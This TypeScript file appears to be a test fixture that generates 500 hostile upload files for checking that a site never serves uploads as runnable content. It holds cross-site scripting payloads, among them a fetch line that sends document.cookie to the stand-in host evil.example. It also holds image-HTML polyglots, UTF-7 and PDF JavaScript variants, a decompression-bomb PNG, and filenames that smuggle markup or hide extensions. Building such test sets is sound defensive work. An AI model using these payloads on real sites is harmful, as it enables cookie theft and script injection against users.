/** Five hundred files that would run or call home if a browser took them for a document, a script or a style. */

import { GIF, JPEG, PNG, WEBP } from './pictures.ts';

/** Leaves a mark on the page and asks another host. */
const CODE = 'window.pwned=1;top.pwned=1;fetch("https://evil.example/"+document.cookie)';
const SCRIPT = `<script>${CODE}</script><img src="https://evil.example/x.png" onerror="window.pwned=1">`;
const HTML = `<!doctype html><html><body>${SCRIPT}</body></html>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${CODE.replaceAll('"', "'")}"><script>${CODE}</script><image href="https://evil.example/x.png"/></svg>`;

const encoder = new TextEncoder();
const join = (...parts: (string | Uint8Array)[]) =>
	Buffer.concat(parts.map((part) => (typeof part === 'string' ? encoder.encode(part) : part)));
const latin = (text: string) => Buffer.from(text, 'latin1');

/** A PNG that says it has 60,000 by 60,000 pixels. */
const bomb = Buffer.from(PNG);
bomb.writeUInt32BE(60_000, 16);
bomb.writeUInt32BE(60_000, 20);

const BODIES: Uint8Array[] = [
	join(HTML),
	join('\ufeff', HTML),
	Buffer.from(`\ufeff${HTML}`, 'utf16le'),
	join(' \n\t'.repeat(600), HTML),
	join(`<!--${'-'.repeat(2000)}-->`, HTML),
	latin('+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-'),
	join(SVG),
	join('<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>', SVG),
	Bun.gzipSync(encoder.encode(SVG)),
	join(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><script>${CODE}</script></body></html>`),
	join(
		'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n' +
			`Content-Location: https://forms.example.com/\r\n\r\n${HTML}\r\n--b--\r\n`,
	),
	join(`%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n${HTML}`),
	join(PNG, HTML),
	join(GIF, HTML),
	join(JPEG, HTML),
	join(WEBP, SVG),
	latin(`GIF89a/*${HTML}*/=1;${CODE}`),
	join(PNG.subarray(0, 33), HTML),
	join(JPEG.subarray(0, 20), HTML),
	latin(`\x00\x00\x00\x20ftypavif\x00\x00\x00\x00avifmif1${HTML}`),
	latin(`BM${HTML}`),
	latin(`\x00\x00\x01\x00\x01\x00${HTML}`),
	latin(`RIFF\x00\x10\x00\x00WEBPVP8 ${HTML}`),
	bomb,
	join(`PK\x03\x04${HTML}`),
];

const NAMES = [
	'photo.png',
	'page.html',
	'page.mhtml',
	'drawing.svg',
	'photo.png.html',
	'page.html.png',
	'"><img src=x onerror=window.pwned=1>.png',
	'photo.jpg\u0000.xhtml',
	'\u202egnp.lmth',
	'javascript:window.pwned=1',
];

const TYPES = ['image/png', 'text/html'];

export const HOSTILE_FILES = BODIES.flatMap((body) =>
	NAMES.flatMap((name) => TYPES.map((type) => new File([new Uint8Array(body)], name, { type }))),
);
